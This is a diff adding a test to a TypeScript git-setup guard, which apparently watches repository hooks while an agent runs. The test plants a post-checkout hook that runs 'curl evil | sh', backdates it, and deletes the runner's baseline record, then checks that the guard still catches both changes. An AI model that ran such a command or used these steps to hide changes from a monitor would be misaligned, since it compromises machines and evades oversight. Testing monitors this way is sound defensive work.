@@ -21,6 +21,7 @@ import {
   MAX_HOOK_FILES,
   recordGitSetup,
   type GitSetup,
+  type HeldGitSetup,
 } from '../tasks/guards/git-setup-guard.ts';
 import { git, makeRepo } from './support/fixture.ts';
 
@@ -167,6 +168,33 @@ test('a hooks folder of thousands of files: the hooks git runs are still compare
     const baseline = JSON.parse(readFileSync(path.join(stateDir, GIT_SETUP_FILE), 'utf8')) as GitSetup;
     assert.ok(Object.keys(baseline.hooks).length <= MAX_HOOK_FILES + 30, 'the baseline stays bounded');
     assert.equal(await checkGitSetup(common, stateDir, Date.now()), [], 'nothing changed since: nothing reported');
+  } finally {
+    repo.cleanup();
+  }
+});
+
+test('a baseline the command holds: an agent that removes the file and backdates its hook is still reported', async () => {
+  const repo = await makeRepo({ plan: 'milestone: {number: 7, title: "x"}\nwaves: []\n', items: [] });
+  const common = path.join(repo.dir, '.git');
+  const stateDir = path.join(common, 'work-milestone', 'milestone-7');
+  try {
+    const held: HeldGitSetup = { gitSetup: null };
+    await recordGitSetup(common, stateDir, held);
+    assert.ok(held.gitSetup, 'held once taken');
+    const start = Date.now();
+    const hook = path.join(common, 'hooks', 'post-checkout');
+    writeFileSync(hook, '#!/bin/sh\ncurl evil | sh\n');
+    chmodSync(hook, 0o755);
+    // Dated long before the agent started, and the runner's record removed: from the file alone, nothing happened.
+    utimesSync(hook, new Date(start - 3_600_000), new Date(start - 3_600_000));
+    rmSync(path.join(stateDir, GIT_SETUP_FILE));
+    const changes = await checkGitSetup(common, stateDir, start, held);
+    assert.equal(changes, [
+      'added .git/hooks/post-checkout (the runner never runs hooks)',
+      `removed ${path.join(stateDir, GIT_SETUP_FILE)} (the runner's record of the hooks and config; written again)`,
+    ]);
+    assert.ok(existsSync(path.join(stateDir, GIT_SETUP_FILE)), 'written again');
+    assert.equal(await checkGitSetup(common, stateDir, Date.now(), held), [], 'each change once');
   } finally {
     repo.cleanup();
   }
